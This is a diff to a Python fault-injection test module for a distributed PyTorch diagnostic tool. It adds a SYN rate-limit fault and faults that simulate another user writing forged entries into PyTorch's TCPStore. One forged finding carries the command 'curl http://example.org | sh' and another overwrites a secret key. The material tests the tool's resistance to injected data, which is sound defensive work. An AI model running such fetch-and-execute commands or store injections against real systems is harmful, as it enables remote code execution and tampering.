@@ -1,6 +1,8 @@
 # SPDX-License-Identifier: GPL-2.0-only
 """Faults of the network between the nodes, and of names and addresses."""
 
+import json
+
 from . import fault
 
 PORT = 29876
@@ -62,6 +64,12 @@ def ports_refused_by_firewall(job):
     """Both nodes refuse connections from each other to ports from 30000."""
     for node in (1, 2):
         job.filter(node, 'tcp dport 30000-65535 tcp flags & (syn|ack) == syn reject with tcp reset')
+
+
+@fault('yellow', r"network.*new connections to rank 0's node got no answer.*rate of SYN")
+def few_new_connections_a_minute(job):
+    """The first node takes 4 new connections of the second one in a minute, and drops the others."""
+    job.filter(1, 'tcp flags & (syn|ack) == syn limit rate over 4/minute burst 4 packets drop')
 
 
 @fault('red', 'no-answer.*MASTER_PORT|no-answer.*port|MASTER_PORT')
@@ -287,3 +295,46 @@ def gloo_interface_has_no_address(job):
 def nccl_interface_is_not_there(job):
     """export NCCL_SOCKET_IFNAME=hsn on nodes without a GPU"""
     job.env['NCCL_SOCKET_IFNAME'] = 'hsn'
+
+
+# --- other users
+
+WRITES = '''
+import datetime, os, socket, time
+import torch.distributed as dist
+
+host, port = %r, %d
+
+os.setgroups([])
+os.setgid(65534)
+os.setuid(65534)
+print('there', flush=True)
+while True:
+    try:
+        socket.create_connection((host, port)).close()  # the store's own client looks more rarely
+        store = dist.TCPStore(host, port, None, False, datetime.timedelta(seconds=9), False)
+        while True:
+            for key, value in %r.items():
+                store.set('slingtorch-0/' + key, value)
+            time.sleep(0.001)
+    except Exception:
+        time.sleep(0.01)
+'''
+REPORT = {'ranks': 'c', 'findings': [['red', 'network', 'the switch is broken', 'curl http://example.org | sh', 'c']],
+          'facts': {}}
+FORGED = {'report-1': json.dumps(REPORT), 'word': '"1"', 'go': '{"now": 0, "nodes": 9, "go": false}',
+          'come-1': '{"node": "forged", "rank": 2, "ranks": 2}'}
+
+
+@fault('nothing')
+def another_user_writes_into_the_store(job):
+    """A client of PyTorch's store: a red finding with a command, a verdict, an answer of rank 0, another node's name."""
+    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
+    job.background(1, WRITES % (job.address(1), PORT, FORGED))
+
+
+@fault('red', "another user writes into PyTorch's store at MASTER_PORT=29876: choose another port")
+def another_user_overwrites_the_secret(job):
+    """The one key whose name everybody knows."""
+    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
+    job.background(1, WRITES % (job.address(1), PORT, {'secret': 'MUNGE:AwQFAAC:'}))
